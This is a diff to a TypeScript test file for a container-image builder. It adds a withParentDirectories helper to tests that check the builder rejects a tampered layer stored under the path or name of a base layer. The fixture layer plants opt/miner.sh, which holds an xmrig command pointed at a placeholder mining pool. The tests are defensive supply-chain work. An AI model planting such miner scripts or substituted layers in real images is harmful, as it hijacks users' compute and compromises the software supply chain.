@@ -13,6 +13,7 @@ import {
   memorySource,
   onBase,
   tarOf,
+  withParentDirectories,
   zstdAvailable,
   type Layout,
   type LayerSpec
@@ -328,10 +329,12 @@ describe('layers of the given base image', () => {
   it('rejects a custom layer stored under the legacy path of a base layer', async () => {
     const b = await buildImage({ layers: base(), metadata: BASE_METADATA, config: { User: 'work' } }, { layout: 'docker-legacy' });
     const basePath = `${createHash('sha256')
-      .update(Buffer.concat([await layerTar(base()[0]), Buffer.from('0')]))
+      .update(Buffer.concat([await layerTar(withParentDirectories(base())[0]), Buffer.from('0')]))
       .digest('hex')}/layer.tar`;
     expect(b.archive.includes(Buffer.from(basePath))).toBe(true);
-    const evil = await layerTar({ entries: [...base()[0].entries, { path: 'opt/miner.sh', content: 'xmrig -o stratum+tcp://pool.example.com:3333\n' }] });
+    const evil = await layerTar({
+      entries: [...withParentDirectories(base())[0].entries, { path: 'opt/miner.sh', content: 'xmrig -o stratum+tcp://pool.example.com:3333\n' }]
+    });
     const diffId = 'sha256:' + createHash('sha256').update(evil).digest('hex');
     const config = Buffer.from(
       JSON.stringify({ architecture: 'amd64', os: 'linux', config: { User: 'work' }, rootfs: { type: 'layers', diff_ids: [diffId] } })
@@ -349,7 +352,9 @@ describe('layers of the given base image', () => {
 
   it('rejects a custom layer stored under the name of a base layer', async () => {
     const b = await buildImage({ layers: base(), metadata: BASE_METADATA, config: { User: 'work' } }, { layout: 'docker-oci' });
-    const evil = await layerTar({ entries: [...base()[0].entries, { path: 'opt/miner.sh', content: 'xmrig -o stratum+tcp://pool.example.com:3333\n' }] });
+    const evil = await layerTar({
+      entries: [...withParentDirectories(base())[0].entries, { path: 'opt/miner.sh', content: 'xmrig -o stratum+tcp://pool.example.com:3333\n' }]
+    });
     const config = Buffer.from(
       JSON.stringify({ architecture: 'amd64', os: 'linux', config: { User: 'work' }, rootfs: { type: 'layers', diff_ids: b.diffIds } })
     );
